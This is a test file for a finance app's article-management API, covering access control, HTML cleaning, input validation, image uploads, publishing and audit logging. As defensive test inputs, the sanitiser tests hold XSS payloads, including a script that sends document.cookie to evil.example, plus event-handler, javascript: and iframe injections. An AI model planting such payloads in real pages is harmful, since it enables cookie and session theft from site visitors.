import { randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { API_BASE, type ArticleItem, type Page, type PublicArticle } from '@harbour/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { pngOf } from '../helpers/png.js';
import { auditCount, call, dataOf, expectFieldErrors, messageOf, rowCount, tokenOf } from '../admin/helpers.js';

let t: TestApp;
let dataDir: string;
beforeAll(async () => {
  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'harbour-articles-'));
  t = await createTestApp({ config: { dataDir } });
});
afterAll(async () => {
  await t.close();
  await fs.rm(dataDir, { recursive: true, force: true });
});

type UploadAnswer = { statusCode: number; body: { result: string; data: { url: string }; message?: string; errors?: { field: string; message: string }[] } };

async function upload(token: string, bytes: Buffer, lang = 'en', filename = 'banner.png'): Promise<UploadAnswer> {
  const boundary = `----harbour${randomBytes(8).toString('hex')}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\n`),
    bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const res = await t.app.inject({
    method: 'POST',
    url: `${API_BASE}/articles/image`,
    headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}`, 'accept-language': lang },
    payload,
  });
  return { statusCode: res.statusCode, body: res.json() };
}

const VALID = {
  title: 'New repayment hours',
  date: '2026-11-20',
  summary: 'Counters open until 8 p.m.',
  author: 'Harbour Finance',
  content: '<p>Counters open until <strong>8 p.m.</strong></p>',
  image: null,
};
const lastAudit = async () =>
  (await t.pool.query<{ action: string; module: string; reference: string; before: unknown; after: unknown }>('select action, module, reference, before, after from audit_log order by id desc limit 1')).rows[0]!;
const publicList = async (query: Record<string, number> = { pageSize: 20 }) => dataOf(await call<Page<Record<string, unknown>>>(t.app, 'GET', '/public/articles', { query }));

describe('articles', () => {
  it('lists the demo articles with filters, sort and pages for staff with the key', async () => {
    const token = await tokenOf(t, 'manager');
    const all = dataOf(await call<Page<ArticleItem>>(t.app, 'GET', '/articles', { token }));
    expect(all.total).toBe(3);
    expect(all.items.map((a) => a.date)).toEqual(['2027-01-10', '2026-12-15', '2026-11-02']);
    const drafts = dataOf(await call<Page<ArticleItem>>(t.app, 'GET', '/articles', { token, query: { status: 'draft' } }));
    expect(drafts.items.map((a) => a.title)).toEqual(['觀塘分行遷址通告']);
    const ranged = dataOf(await call<Page<ArticleItem>>(t.app, 'GET', '/articles', { token, query: { dateFrom: '2026-11-01', dateTo: '2026-12-15', sort: 'date:asc' } }));
    expect(ranged.items.map((a) => a.date)).toEqual(['2026-11-02', '2026-12-15']);
    const titled = dataOf(await call<Page<ArticleItem>>(t.app, 'GET', '/articles', { token, query: { title: 'scams' } }));
    expect(titled.items.map((a) => a.title)).toEqual(['Beware of loan scams']);
    const paged = dataOf(await call<Page<ArticleItem>>(t.app, 'GET', '/articles', { token, query: { page: 2, pageSize: 2 } }));
    expect(paged).toMatchObject({ total: 3, page: 2, pageSize: 2 });
    expect(paged.items).toHaveLength(1);
  });

  it('refuses staff without the keys (403) and changes nothing', async () => {
    const [id] = (await t.pool.query<{ id: number }>("select id from articles where status = 'draft'")).rows.map((r) => r.id);
    const tokens = [await tokenOf(t, 'clerk'), await tokenOf(t, 'collector'), await tokenOf(t, 'accountant')];
    const before = await auditCount(t);
    for (const token of tokens) {
      expect((await call(t.app, 'GET', '/articles', { token })).statusCode).toBe(403);
      expect((await call(t.app, 'GET', `/articles/${id}`, { token })).statusCode).toBe(403);
      expect((await call(t.app, 'POST', '/articles', { token, body: VALID })).statusCode).toBe(403);
      expect((await call(t.app, 'PUT', `/articles/${id}`, { token, body: VALID })).statusCode).toBe(403);
      expect((await call(t.app, 'DELETE', `/articles/${id}`, { token })).statusCode).toBe(403);
      expect((await call(t.app, 'POST', `/articles/${id}/publish`, { token })).statusCode).toBe(403);
      expect((await upload(token, pngOf(620, 248))).statusCode).toBe(403);
    }
    expect(await auditCount(t)).toBe(before);
    expect(await rowCount(t, 'articles')).toBe(3);
    expect((await t.pool.query("select status from articles where id = $1", [id])).rows[0]).toEqual({ status: 'draft' });
  });

  it('stores content without scripts, handlers or javascript: links, and answers the cleaned content', async () => {
    const token = await tokenOf(t, 'manager');
    const before = await auditCount(t);
    const dirty =
      '<p onclick="steal()">Rates <strong>from 1%</strong><script>fetch("https://evil.example/"+document.cookie)</script></p>' +
      '<p><a href="javascript:alert(1)">click</a> <a href="https://harbour.example/rates">rates</a></p>' +
      '<img src="x" onerror="alert(1)"><iframe src="https://evil.example"></iframe><p style="width:expression(alert(1))">end</p>';
    const res = await call<ArticleItem>(t.app, 'POST', '/articles', { token, lang: 'en', body: { ...VALID, content: dirty } });
    expect(res.body).toMatchObject({ result: 'success', message: 'Created' });
    const created = dataOf(res);
    const clean =
      '<p>Rates <strong>from 1%</strong></p><p><a>click</a> <a href="https://harbour.example/rates" rel="noopener noreferrer">rates</a></p><p>end</p>';
    expect(created).toMatchObject({ title: VALID.title, status: 'draft', content: clean, image: null });
    const { rows } = await t.pool.query<{ content: string }>('select content from articles where id = $1', [created.id]);
    expect(rows[0]!.content).toBe(clean);
    expect(await auditCount(t)).toBe(before + 1);
    expect(await lastAudit()).toMatchObject({ action: 'add', module: 'articles', reference: String(created.id), after: { content: clean } });
  });

  it('refuses bad input with 400, a message per field, and no change', async () => {
    const token = await tokenOf(t, 'manager');
    const before = await auditCount(t);
    const count = await rowCount(t, 'articles');
    const bad = { title: '  ', date: '2026-02-30', summary: 'x'.repeat(501), author: '', content: '<script>alert(1)</script>', image: 'https://evil.example/a.png' };
    const res = await call(t.app, 'POST', '/articles', { token, lang: 'en', body: bad });
    expectFieldErrors(res, ['title', 'date', 'summary', 'author', 'image']);
    expect(messageOf(res, 'title')).toBe('Enter a title');
    expect(messageOf(res, 'image')).toBe('Upload the image on this page first');
    // Content that is nothing once cleaned is no content.
    const empty = await call(t.app, 'POST', '/articles', { token, lang: 'zh-TW', body: { ...VALID, content: '<script>alert(1)</script><p> </p>' } });
    expectFieldErrors(empty, ['content']);
    expect(messageOf(empty, 'content')).toBe('請輸入內容');
    // An image name of the right shape that was never uploaded.
    const ghost = await call(t.app, 'POST', '/articles', { token, lang: 'en', body: { ...VALID, image: `${API_BASE}/articleImages/${'0'.repeat(32)}.png` } });
    expect(messageOf(ghost, 'image')).toBe('The uploaded image is gone; upload it again');
    // Status is set by publish / unpublish only.
    expect((await call(t.app, 'POST', '/articles', { token, body: { ...VALID, status: 'published' } })).statusCode).toBe(400);
    expect(await auditCount(t)).toBe(before);
    expect(await rowCount(t, 'articles')).toBe(count);
  });

  it('takes a 620 × 248 PNG and refuses another size or type, checked by content', async () => {
    const token = await tokenOf(t, 'manager');
    const before = await auditCount(t);
    const small = await upload(token, pngOf(600, 248));
    expect(small.statusCode).toBe(400);
    expect(small.body.message).toBe('The image must be 620 × 248 pixels; this one is 600 × 248.');
    expect(small.body.errors).toEqual([{ field: 'file', message: 'Must be 620 × 248 pixels' }]);
    const zh = await upload(token, pngOf(248, 620), 'zh-TW');
    expect(zh.body.message).toBe('圖片須為 620 × 248 像素，此圖片為 248 × 620 像素。');
    const text = await upload(token, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="620" height="248"></svg>'));
    expect(text.body.errors).toEqual([{ field: 'file', message: 'The image must be a PNG or JPEG' }]);
    // A JPEG's first bytes on something whose size cannot be read is no image either.
    const forged = await upload(token, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200)]), 'en', 'banner.jpg');
    expect(forged.statusCode).toBe(400);
    expect(forged.body.errors).toEqual([{ field: 'file', message: 'The image must be a PNG or JPEG' }]);
    const big = await upload(token, Buffer.concat([pngOf(620, 248), Buffer.alloc(2 * 1024 * 1024)]));
    expect(big.body.errors).toEqual([{ field: 'file', message: 'The image must be at most 2 MB' }]);
    expect(await auditCount(t)).toBe(before);
    expect((await t.pool.query(`select key from stored_files where key like 'articles/%'`)).rows).toEqual([]);

    const ok = await upload(token, pngOf(620, 248), 'en', 'whatever.txt');
    expect(ok.statusCode).toBe(200);
    expect(ok.body.data.url).toMatch(/^\/api\/admin\/v1\/articleImages\/[0-9a-f]{32}\.png$/);
    expect(await auditCount(t)).toBe(before + 1);
    expect(await lastAudit()).toMatchObject({ action: 'upload', module: 'articles', after: { image: ok.body.data.url } });
    const img = await t.app.inject({ method: 'GET', url: ok.body.data.url });
    expect(img.statusCode).toBe(200);
    expect(img.headers['content-type']).toBe('image/png');
  });

  it('publishes through the status table, and the public endpoint never shows a draft', async () => {
    const token = await tokenOf(t, 'manager');
    const image = (await upload(token, pngOf(620, 248))).body.data.url;
    const draft = dataOf(await call<ArticleItem>(t.app, 'POST', '/articles', { token, body: { ...VALID, title: 'Secret draft', date: '2027-02-01', image } }));
    const listed = await publicList();
    expect(listed.items.map((a) => a.title)).not.toContain('Secret draft');
    expect(listed.items.map((a) => a.title)).not.toContain('觀塘分行遷址通告');
    expect(listed.total).toBe(2);
    const missing = await call(t.app, 'GET', `/public/articles/${draft.id}`, { lang: 'en' });
    const nothing = await call(t.app, 'GET', '/public/articles/999999', { lang: 'en' });
    expect(missing.statusCode).toBe(404);
    expect(missing.body).toEqual(nothing.body);

    const before = await auditCount(t);
    const published = await call<ArticleItem>(t.app, 'POST', `/articles/${draft.id}/publish`, { token, lang: 'en' });
    expect(published.body).toMatchObject({ result: 'success', message: 'The article is published', data: { status: 'published' } });
    expect(await lastAudit()).toMatchObject({ action: 'edit', module: 'articles', before: { status: 'draft' }, after: { status: 'published', action: 'publish' } });
    // Publishing twice is not a transition of the table: 422, nothing written.
    expect((await call(t.app, 'POST', `/articles/${draft.id}/publish`, { token })).statusCode).toBe(422);
    expect(await auditCount(t)).toBe(before + 1);

    const page = await publicList();
    expect(page.items[0]).toEqual({ id: draft.id, title: 'Secret draft', date: '2027-02-01', summary: VALID.summary, author: VALID.author, image });
    const one = await call<PublicArticle>(t.app, 'GET', `/public/articles/${draft.id}`);
    expect(one.headers['cache-control']).toBe('public, max-age=60');
    expect(Object.keys(dataOf(one)).sort()).toEqual(['author', 'content', 'date', 'id', 'image', 'summary', 'title']);
    expect(dataOf(one).content).toBe(VALID.content);

    // Unpublished again: gone from the public view, same 404.
    dataOf(await call(t.app, 'POST', `/articles/${draft.id}/unpublish`, { token }));
    expect((await call(t.app, 'GET', `/public/articles/${draft.id}`, { lang: 'en' })).body).toEqual(nothing.body);
    expect((await publicList()).items.map((a) => a.id)).not.toContain(draft.id);
  });

  it('pages the public list within bounds, newest first, without login', async () => {
    const first = await call<Page<{ date: string }>>(t.app, 'GET', '/public/articles', { query: { pageSize: 1 } });
    expect(first.statusCode).toBe(200);
    expect(first.headers['cache-control']).toBe('public, max-age=60');
    expect(dataOf(first)).toMatchObject({ total: 2, page: 1, pageSize: 1, items: [{ date: '2026-12-15' }] });
    expect((await publicList({ page: 5, pageSize: 20 })).total).toBe(2);
    expect((await call(t.app, 'GET', '/public/articles', { query: { pageSize: 21 } })).statusCode).toBe(400);
    expect((await call(t.app, 'GET', '/public/articles', { query: { status: 'draft' } as never })).statusCode).toBe(400);
  });

  it('edits and deletes with one audit row each, and removes an image nothing uses any more', async () => {
    const token = await tokenOf(t, 'manager');
    const first = (await upload(token, pngOf(620, 248))).body.data.url;
    const second = (await upload(token, pngOf(620, 248, [200, 40, 40]))).body.data.url;
    const stored = async (url: string) => (await t.pool.query('select 1 from stored_files where key = $1', [`articles/${url.slice(url.lastIndexOf('/') + 1)}`])).rows.length === 1;
    const created = dataOf(await call<ArticleItem>(t.app, 'POST', '/articles', { token, body: { ...VALID, image: first } }));
    const before = await auditCount(t);
    const edited = await call<ArticleItem>(t.app, 'PUT', `/articles/${created.id}`, {
      token,
      lang: 'en',
      body: { ...VALID, title: 'Edited', image: second, content: '<p>new <em>text</em><img src="x" onerror="alert(1)"></p>' },
    });
    expect(edited.body).toMatchObject({ result: 'success', data: { title: 'Edited', image: second, content: '<p>new <em>text</em></p>' } });
    expect(await auditCount(t)).toBe(before + 1);
    expect(await lastAudit()).toMatchObject({ action: 'edit', module: 'articles', before: { title: VALID.title, image: first }, after: { title: 'Edited', image: second } });
    expect(await stored(first)).toBe(false);
    expect(await stored(second)).toBe(true);

    const removed = await call(t.app, 'DELETE', `/articles/${created.id}`, { token, lang: 'en' });
    expect(removed.body).toMatchObject({ result: 'success', message: 'Deleted' });
    expect(await auditCount(t)).toBe(before + 2);
    expect(await lastAudit()).toMatchObject({ action: 'delete', module: 'articles', reference: String(created.id) });
    expect(await stored(second)).toBe(false);
    expect((await call(t.app, 'GET', `/articles/${created.id}`, { token })).statusCode).toBe(404);
    expect((await call(t.app, 'DELETE', `/articles/${created.id}`, { token })).statusCode).toBe(404);
  });
});
